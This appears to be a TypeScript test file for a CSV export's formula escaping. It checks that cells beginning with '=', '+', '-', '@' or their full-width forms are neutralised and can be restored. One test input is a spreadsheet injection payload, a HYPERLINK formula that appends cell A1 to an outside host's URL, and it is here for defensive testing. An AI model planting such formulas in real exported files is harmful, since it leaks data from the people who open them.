import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvLine } from '../../api/files/csv';
import { escapeFormulas, unescapeFormulas } from '../../contract/formulaEscaping';

const texts = fc
  .array(fc.constantFrom(...';;\t\r\n\'" =+-@＝＋－＠,a1'), { maxLength: 12 })
  .map((characters) => characters.join(''));

test.each([
  ['Ana;=HYPERLINK("http://x.mx/"&A1);', `Ana;'=HYPERLINK("http://x.mx/"&A1);`],
  ['a\n=1+1;', "a\n'=1+1;"],
  ['a;"=1+1', `a;'"=1+1`],
  ['a;  ＝1', "a;'  ＝1"],
  ['a\t@b;-c', "a\t'@b;'-c"],
  ['\t=1', "'\t'=1"],
  ["a;'=1", "a;''=1"],
  ['a; b; c - d = e', 'a; b; c - d = e'],
  ["l'été; d'accord", "l'été; d'accord"],
])('%j goes into a file as %j', (text, kept) => {
  expect(escapeFormulas(text)).toBe(kept);
  expect(unescapeFormulas(kept)).toBe(text);
});

test('what was marked is read as it was', () => {
  fc.assert(
    fc.property(texts, (text) => {
      expect(unescapeFormulas(escapeFormulas(text))).toBe(text);
    }),
    { numRuns: 5_000 },
  );
});

test('no cell begins as a formula does, whatever a spreadsheet takes for the end of one', () => {
  fc.assert(
    fc.property(texts, texts, (one, other) => {
      const line = csvLine([one, 'x', other]);
      // What is quoted in the middle of a cell does not hold it together.
      for (const separator of [';', '\t'])
        for (const cell of line.split(separator).flatMap((part) => part.split(/[\r\n]/)))
          expect(cell).not.toMatch(/^[" ]*[=+\-@＝＋－＠]/);
    }),
    { numRuns: 5_000 },
  );
});
